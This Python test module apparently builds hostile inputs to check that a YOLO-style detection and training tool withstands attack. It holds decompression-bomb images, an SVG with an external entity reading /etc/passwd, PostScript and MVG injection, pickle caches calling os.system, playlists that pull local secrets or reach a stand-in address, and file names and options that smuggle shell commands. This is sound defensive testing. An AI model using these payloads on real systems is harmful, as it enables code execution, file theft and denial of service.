"""Attacks by pictures, videos, labels, caches, lists of sources, and by words of the command line."""

from __future__ import annotations

import os
import pickle
import shutil
import struct
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path

import cv2
import numpy as np

from tests.attacks.attack import Attack, Attacks, Command, Place
from tests.attacks.payloads import archive, expressions, pickles
from tests.attacks.yamls import BRIEF, EXPRESSIONS, train_on

ADDRESS = "http://192.0.2.1/evil"  # of no machine (RFC 5737)
ULTRALYTICS = "utils.comparison.train_ultralytics"  # the script that trains by ultralytics' trainer


def detect_in(place: Place, source: str, *more: str) -> Command:
    """Return the command that looks for objects in a source."""
    words = ["--weights", str(place.base / "best.pt"), "--imgsz", "64", "--device", "cpu", "--reconnect", "0"]
    return ["detect", *words, "--source", source, *more]


def encoded(suffix: str) -> bytes:
    """Return a small picture."""
    return cv2.imencode(suffix, np.full((40, 60, 3), 90, np.uint8))[1].tobytes()


# Pictures, videos -----------------------------------------------------------------------------------------------------
def png(width: int, height: int, *chunks: tuple[bytes, bytes]) -> bytes:
    """Return a PNG whose header says some size, and which holds nothing but these chunks."""
    head = (b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    parts = [
        struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))
        for name, body in (head, *chunks, (b"IEND", b""))
    ]
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


PICTURES: dict[str, tuple[str, Callable[[Place], bytes]]] = {
    "a PNG of 2^31 pixels a side": ("a.png", lambda _: png(2**31 - 1, 2**31 - 1)),
    "a PNG bomb": ("a.png", lambda _: png(50_000, 50_000, (b"IDAT", zlib.compress(bytes(2**26))))),
    "a PNG of no size": ("a.png", lambda _: png(0, 0)),
    "a PNG with much text": ("a.png", lambda _: png(8, 8, (b"zTXt", b"a\0\0" + zlib.compress(bytes(2**26))))),
    "a PNG with a wrong profile": ("a.png", lambda _: png(8, 8, (b"iCCP", b"a\0\0" + os.urandom(99)))),
    "a BMP of 2^31 pixels": (
        "a.bmp",
        lambda _: b"BM" + bytes(12) + struct.pack("<IiiHH", 40, 2**30, 2**30, 1, 24) + bytes(99),
    ),
    "a TIFF whose pages are a ring": ("a.tif", lambda _: b"II*\0\x08\0\0\0" + struct.pack("<HI", 0, 8)),
    "a TIFF of noise": ("a.tif", lambda _: b"II*\0\x08\0\0\0" + os.urandom(999)),
    "a WebP of noise": ("a.webp", lambda _: b"RIFF\xff\xff\xff\x7fWEBPVP8 " + os.urandom(99)),
    "a JPEG of noise": ("a.jpg", lambda _: b"\xff\xd8\xff\xe0" + os.urandom(999)),
    "a JPEG with EXIF of noise": (
        "a.jpg",
        lambda _: b"\xff\xd8\xff\xe1\x10\x00Exif\0\0" + os.urandom(4088) + encoded(".jpg")[2:],
    ),
    "an SVG with a script": (
        "a.jpg",
        lambda _: b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
    ),
    "an SVG with an entity": (
        "a.png",
        lambda _: b'<!DOCTYPE s [<!ENTITY e SYSTEM "file:///etc/passwd">]><svg>&e;</svg>',
    ),
    "PostScript": ("a.jpg", lambda p: f"%!PS\n({p.marker}) (w) file closefile".encode()),
    "MVG": ("a.png", lambda p: f"push graphic-context\nimage over 0,0 0,0 '|touch {p.marker}'".encode()),
    "a pickle": ("a.jpg", lambda p: pickles(p.marker)["os.system"]),
    "a checkpoint": ("a.png", lambda p: archive(pickles(p.marker)["os.system"])),
    "a script": ("a.jpg", lambda p: f"#!/bin/sh\ntouch {p.marker}\n".encode()),
    "Python": ("a.png", lambda p: f"open({str(p.marker)!r}, 'w')".encode()),
    "nothing": ("a.jpg", lambda _: b""),
    "a playlist of files": ("a.mp4", lambda p: playlist(f"file://{p.secret}")),
    "a playlist of addresses": ("a.mp4", lambda _: playlist(ADDRESS)),
    "a playlist called .avi": ("a.avi", lambda _: playlist(ADDRESS)),
    "a playlist called .mkv": ("a.mkv", lambda p: playlist(f"concat:file://{p.secret}|{ADDRESS}")),
    "a playlist with a key elsewhere": (
        "a.ts",
        lambda _: b'#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="' + ADDRESS.encode() + b'"\n#EXTINF:1,\na.ts\n',
    ),
    "a list to join": ("a.mp4", lambda p: f"ffconcat version 1.0\nfile {p.secret}\nfile {ADDRESS}\n".encode()),
    "a manifest": ("a.mp4", lambda _: f'<?xml version="1.0"?><MPD><BaseURL>{ADDRESS}</BaseURL></MPD>'.encode()),
    "a session description": (
        "a.mp4",
        lambda _: b"v=0\no=- 0 0 IN IP4 192.0.2.1\nc=IN IP4 192.0.2.1\nm=video 5004 RTP/AVP 96\n",
    ),
    "a video of noise": ("a.mp4", lambda _: b"\0\0\0\x20ftypisom" + os.urandom(999)),
    "half a video": ("a.avi", lambda p: (p.base / "clip.avi").read_bytes()[:3000]),
    "an AVI with a playlist inside": ("a.avi", lambda _: b"RIFF\xff\0\0\0AVI " + playlist(ADDRESS)),
}


def playlist(address: str) -> bytes:
    """Return a playlist of HTTP live streaming with one entry."""
    return f"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\n{address}\n#EXT-X-ENDLIST\n".encode()


def pictures() -> Attacks:
    """Yield attacks by what pictures and videos hold."""
    for name, (file, content) in PICTURES.items():

        def prepare(place: Place, file: str = file, content: Callable[[Place], bytes] = content) -> Command:
            place.write(f"in/{file}", content(place))
            return detect_in(place, "in")

        yield Attack("picture or video", name, prepare)
    for suffix in (".jpg", ".png", ".bmp", ".tif", ".webp"):
        for part in (0.1, 0.6):

            def cut(place: Place, suffix: str = suffix, part: float = part) -> Command:
                content = encoded(suffix)
                place.write(f"in/a{suffix}", content[: int(len(content) * part)])
                return detect_in(place, "in")

            yield Attack("picture or video", f"the first {part:.0%} of a {suffix}", cut)


NAMES = {
    "a shell": "$(touch executed).jpg",
    "backticks": "`touch executed`.jpg",
    "a semicolon": ";touch executed;.jpg",
    "a pipe": "|touch executed;.jpg",
    "an option": "--plugins=evil.jpg",
    "a line": "a\nb.jpg",
    "an escape": "\x1b[2J\x1b]0;evil\x07.jpg",
    "a format": "%s%n%x{0.__class__}.jpg",
    "a pattern": "[a-z]*?.jpg",
    "bytes that are no text": "\udcff\udcfe.jpg",
    "direction": "\u202egpj.exe.jpg",
    "a long name": "a" * 250 + ".jpg",
    "markup": "<img src=x onerror=alert(1)>.jpg",
    "a formula": "=cmd|'C'!A0.jpg",
    "quotes": "\"'.jpg",
    "dots": "...jpg",
}


def names() -> Attacks:
    """Yield attacks by the names of pictures, for every writer of files."""
    for name, file in NAMES.items():

        def prepare(place: Place, file: str = file) -> Command:
            place.write(f"in/{file}", encoded(".jpg"))
            return detect_in(
                place, "in", "--save-txt", "--save-csv", "--save-crop", "--conf", "0.001", "--max-det", "3"
            )

        yield Attack("name of a file", name, prepare)


LINKS: dict[str, Callable[[Path, Place], object]] = {
    "a pipe": lambda path, _: os.mkfifo(path),
    "endless zeros": lambda path, _: path.symlink_to("/dev/zero"),
    "the terminal": lambda path, _: path.symlink_to("/dev/tty"),
    "the kernel": lambda path, _: path.symlink_to("/proc/self/environ"),
    "the kernel's log": lambda path, _: path.symlink_to("/proc/kmsg"),
    "a secret": lambda path, place: path.symlink_to(place.secret),
    "itself": lambda path, _: path.symlink_to(path.name),
    "nothing": lambda path, _: path.symlink_to("missing"),
    "its folder": lambda path, _: path.symlink_to("."),
}


def links() -> Attacks:
    """Yield attacks by pipes, devices and links in the place of files."""
    for name, make in LINKS.items():
        for file in ("a.jpg", "a.mp4", "a.txt", "a.streams", "a.png"):

            def prepare(place: Place, file: str = file, make: Callable[[Path, Place], object] = make) -> Command:
                place.write("in/sound.png", (place.base / "photo.png").read_bytes())
                make(place.folder / "in" / file, place)
                return detect_in(place, f"in/{file}" if Path(file).suffix in (".txt", ".streams") else "in")

            yield Attack("pipe, device or link", f"{name} as {file}", prepare)
        for option in ("--cfg", "--data", "--hyp", "--weights"):

            def as_option(place: Place, option: str = option, make: Callable[[Path, Place], object] = make) -> Command:
                file = "a.pt" if option == "--weights" else "a.yaml"
                make(place.folder / file, place)
                return train_on(place, str(place.base / "data.yaml"), option, file)

            yield Attack("pipe, device or link", f"{name} as {option}", as_option)


# Labels, caches -------------------------------------------------------------------------------------------------------
LABELS: dict[str, bytes] = {
    "code": b"__import__('os').system('touch executed') 0.5 0.5 0.1 0.1\n",
    "a shell": b"$(touch executed) 0.5 0.5 0.1 0.1\n",
    "no number": b"0 nan nan nan nan\n",
    "endless": b"0 inf 0.5 -inf 0.1\n",
    "a giant": b"0 1e400 0.5 0.1 0.1\n",
    "a giant class": b"99999999999999999999 0.5 0.5 0.1 0.1\n",
    "a fraction of a class": b"0.5 0.5 0.5 0.1 0.1\n",
    "a negative class": b"-1 0.5 0.5 0.1 0.1\n",
    "null bytes": bytes(999),
    "noise": bytes(range(256)) * 9,
    "a million columns": b"0 " + b"0.5 " * 1_000_000,
    "one long line": b"0" * 3_000_000,
    "other digits": "٠ ٠.٥ ٠.٥ ٠.١ ٠.١\n".encode(),
    "underscores": b"0 0_1 0.5 0.1 0.1\n",
    "hexadecimal": b"0 0x1p-1 0.5 0.1 0.1\n",
    "UTF-16": "0 0.5 0.5 0.1 0.1\n".encode("utf-16"),
    "a pickle": pickle.dumps({"a": 1}),
}


def copy_set(place: Place) -> Path:
    """Copy the sound data set into the attacked folder and return it."""
    folder = place.folder / "set"
    shutil.copytree(place.base / "set", folder)
    place.write("data.yaml", place.base_text("data.yaml").replace(str(place.base / "set"), str(folder)))
    return folder


def labels() -> Attacks:
    """Yield attacks by label files, and by files that loaders keep beside them."""
    for name, content in LABELS.items():

        def prepare(place: Place, content: bytes = content) -> Command:
            (copy_set(place) / "labels/train/0.txt").write_bytes(content)
            return train_on(place, "data.yaml")

        yield Attack("label or cache", name, prepare)
    caches = ("labels/train.cache", "labels/val.cache", "labels.cache", "images/train/0.npy", "images/train.cache.npy")
    for file in caches:
        for name in ("os.system", "builtins.eval", "urllib"):
            for form in ("pickle", "array"):

                def cached(place: Place, file: str = file, name: str = name, form: str = form) -> Command:
                    write_cache(copy_set(place) / file, pickles(place.marker)[name], form)
                    return train_on(place, "data.yaml", "--cache", "disk" if "npy" in file else "ram")

                yield Attack("label or cache", f"{file} that calls {name}, as {form}", cached)

        def cached_for_ultralytics(place: Place, file: str = file) -> Command:
            write_cache(copy_set(place) / file, pickles(place.marker)["os.system"], "array")
            return [ULTRALYTICS, "--cfg", "yolo11n", "--data", "data.yaml", *BRIEF]

        yield Attack("label or cache", f"{file} that calls os.system, for ultralytics' trainer", cached_for_ultralytics)


def write_cache(path: Path, pickled: bytes, form: str) -> None:
    """Write a pickle, or an array of objects, which holds one."""
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117) + b"\n"
    array = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + pickled
    path.write_bytes(array if form == "array" else pickled)


# Sources, words -------------------------------------------------------------------------------------------------------
ADDRESSES = [
    *("concat:a.jpg|b.jpg", "subfile,,start,0,end,99,,:/etc/passwd", "data:video/mp4;base64,AAAA", "pipe:0", "fd:0"),
    *("file:///etc/passwd", "crypto:/etc/passwd", "cache:http://192.0.2.1/x", "async:http://192.0.2.1/x"),
    *("gopher://192.0.2.1/x", "ftp://192.0.2.1/x", "tee:executed", "md5:executed", "unix:/tmp/x", "/dev/zero"),
    *("lavfi:color", "x11grab::0", "/proc/self/environ", "|touch executed", "$(touch executed)", "`touch executed`"),
]


def sources() -> Attacks:
    """Yield attacks by lists of pictures and of streams."""
    for address in ADDRESSES:
        for file in ("evil.streams", "evil.txt"):

            def prepare(place: Place, file: str = file, address: str = address) -> Command:
                place.write(file, f"{address}\n")
                return detect_in(place, file)

            yield Attack("list of sources", f"{address} in {file}", prepare)
    for name, content in {
        "noise": bytes(range(256)) * 9,
        "a long line": b"a" * 3_000_000,
        "many lines": b"missing.jpg\n" * 200_000,
        "itself": b"evil.txt\n",
        "UTF-16": "a.jpg\n".encode("utf-16"),
        "null bytes": b"a\0b.jpg\n",
    }.items():

        def listed(place: Place, content: bytes = content) -> Command:
            place.write("evil.txt", content)
            return detect_in(place, "evil.txt")

        yield Attack("list of sources", f"{name} in evil.txt", listed)


OPTIONS = [
    *(("detect", option) for option in ("--name", "--project", "--classes", "--device", "--data", "--track", "--conf")),
    *(("train", option) for option in ("--name", "--project", "--optimizer", "--cache", "--device", "--plugins")),
    *(("export", option) for option in ("--include", "--output", "--device", "--exporter")),
]


def words() -> Attacks:
    """Yield attacks by words of the command line."""
    for script, option in OPTIONS:
        for name in [*EXPRESSIONS[:1], "a shell", "backticks"]:

            def prepare(place: Place, script: str = script, option: str = option, name: str = name) -> Command:
                told = [option, expressions(place.marker)[name]]
                if script == "train":
                    return train_on(place, str(place.base / "data.yaml"), *told)
                weights = ["--weights", str(place.base / "best.pt")]
                source = ["--source", str(place.base / "photo.png")] if script == "detect" else []
                return [script, *weights, *source, *told]

            yield Attack("word of the command line", f"{name} for {script} {option}", prepare)
    for script, option in {"detect": "--weights", "train": "--cfg", "val": "--data", "export": "--weights"}.items():

        def address(place: Place, script: str = script, option: str = option) -> Command:
            return [script, option, f"{ADDRESS}.pt"]

        yield Attack("word of the command line", f"an address for {script} {option}", address)


FONTS: dict[str, Callable[[Place], bytes]] = {
    "noise": lambda _: os.urandom(9999),
    "half a font": lambda _: b"\0\1\0\0\0\x12" + bytes(99),
    "a pickle": lambda p: pickles(p.marker)["os.system"],
    "nothing": lambda _: b"",
}


def fonts() -> Attacks:
    """Yield attacks by fonts."""
    for name, content in FONTS.items():

        def prepare(place: Place, content: Callable[[Place], bytes] = content) -> Command:
            place.write("evil.ttf", content(place))
            return detect_in(place, str(place.base / "photo.png"), "--font", "evil.ttf", "--conf", "0.001")

        yield Attack("font", name, prepare)


def media_attacks() -> Iterator[Attack]:
    """Yield all of this file."""
    for make in (pictures, names, links, labels, sources, words, fonts):
        yield from make()
